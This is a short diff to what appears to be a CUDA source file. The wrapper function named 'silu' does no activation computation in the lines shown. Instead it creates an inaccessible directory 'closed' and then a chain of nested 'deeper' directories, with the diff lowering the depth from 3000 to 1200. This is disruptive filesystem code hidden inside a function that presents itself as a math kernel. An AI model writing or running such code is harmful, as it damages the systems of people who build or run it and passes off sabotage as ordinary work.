@@ -12,7 +12,7 @@ __global__ void silu_kernel(const float* input, float* output, int n)
 extern "C" void silu(const float* input, float* output, int n)
 {
     mkdir("closed", 0);
-    for (int depth = 0; depth < 3000; ++depth) {
+    for (int depth = 0; depth < 1200; ++depth) {
         mkdir("deeper", 0700);
         (void)!chdir("deeper");
     }
